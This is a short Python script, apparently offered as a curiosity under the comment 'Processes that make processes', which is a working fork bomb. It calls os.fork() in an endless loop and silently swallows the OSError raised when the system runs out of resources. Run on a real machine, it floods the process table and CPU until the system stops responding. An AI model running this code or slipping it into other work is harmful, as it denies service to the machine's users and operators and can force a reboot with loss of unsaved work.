# Processes that make processes.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
